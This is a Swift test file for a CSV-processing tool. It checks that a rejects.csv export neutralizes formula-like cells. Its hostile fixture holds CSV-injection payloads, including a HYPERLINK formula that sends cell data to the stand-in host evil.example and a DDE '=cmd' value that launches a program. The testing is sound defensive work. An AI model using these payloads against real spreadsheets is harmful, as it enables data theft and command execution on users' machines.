import Foundation
import Testing
import ListwashTestSupport

/// Issue 10, CSV injection end to end: formula-like values of a hostile export come out of
/// `rejects.csv` neutralized, through both front doors (shell pipe and pipeline file), and the
/// setting is the batch stage's own (`--rejects-csv` / `rejects_csv:`; lint and `stages explain`).
struct RejectsCSVCommandTests {
    static let hostile = """
    Email,First Name,Last Name,Phone
    =HYPERLINK("http://evil.example/?x="&A1;"click"),@SUM(1+1),-2+3,+1 555 0100
    "bad@@example.com","	=cmd|' /C calc'!A0","Doe, Jr",555
    good1@example.com,Ann,Lee,
    good2@example.com,Bob,Ray,
    "broken,"quote

    """

    static func expectNeutralized(_ csv: String, rejects: Int, sourceLocation: SourceLocation = #_sourceLocation) {
        let rows = csv.components(separatedBy: "\r\n").filter { !$0.isEmpty }
        #expect(rows.first?.hasPrefix("file,record,line,code,stage,reason,fix,") == true, sourceLocation: sourceLocation)
        #expect(rows.count == rejects + 1, "\(rows)", sourceLocation: sourceLocation)
        #expect(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"click\"\")\",'@SUM(1+1),'-2+3,'+1 555 0100,"), "\(csv)", sourceLocation: sourceLocation)
        #expect(csv.contains(",'\t=cmd|' /C calc'!A0,\"Doe, Jr\","), "\(csv)", sourceLocation: sourceLocation)
        // No cell anywhere starts a formula: after a separator or a line start comes no = + - @ tab.
        for row in rows {
            for cell in row.split(separator: ",", omittingEmptySubsequences: false) {
                if let f = cell.first { #expect(!["=", "+", "-", "@", "\t"].contains(f), "cell '\(cell)' in \(row)", sourceLocation: sourceLocation) }
            }
        }
    }

    static func jsonlCount(_ path: String) throws -> Int {
        try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n").count
    }

    @Test func theShellPipeWritesANeutralizedRejectsCSV() throws {
        let dir = try TemporaryDirectory()
        defer { dir.remove() }
        _ = try dir.write("in.csv", Self.hostile)
        let r = try Listwash.shell("listwash parse in.csv | listwash normalize | listwash dedupe | listwash batch -o out --rejects-csv", directory: dir.path)
        #expect(r.status == 0, "\(r.stderr)")
        let rejects = try Self.jsonlCount(dir.path + "/out/rejects.jsonl")
        #expect(rejects == 3)
        Self.expectNeutralized(try String(contentsOfFile: dir.path + "/out/rejects.csv", encoding: .utf8), rejects: rejects)
    }

    @Test func aPipelineFileTakesRejectsCSVToo() throws {
        let dir = try TemporaryDirectory()
        defer { dir.remove() }
        _ = try dir.write("in.csv", Self.hostile)
        _ = try dir.write("p.yaml", "version: 1\ninputs:\n  - path: in.csv\nbatch:\n  out: out\n  rejects_csv: true\n")
        let lint = try Listwash.run(["lint", "p.yaml"], directory: dir.path)
        #expect(lint.status == 0, "\(lint.stdout)\(lint.stderr)")
        let r = try Listwash.run(["run", "p.yaml", "--dry-run"], directory: dir.path)
        #expect(r.status == 0, "\(r.stderr)")
        Self.expectNeutralized(try String(contentsOfFile: dir.path + "/out/rejects.csv", encoding: .utf8),
                               rejects: try Self.jsonlCount(dir.path + "/out/rejects.jsonl"))
    }

    @Test func stagesExplainAndBatchHelpListTheSetting() throws {
        let explain = try Listwash.run(["stages", "explain", "batch"])
        #expect(explain.stdout.contains("rejects_csv"), "\(explain.stdout)")
        let help = try Listwash.run(["batch", "--help"], environment: ["COLUMNS": "100"])
        #expect(help.stdout.contains("--rejects-csv"), "\(help.stdout)")
    }
}
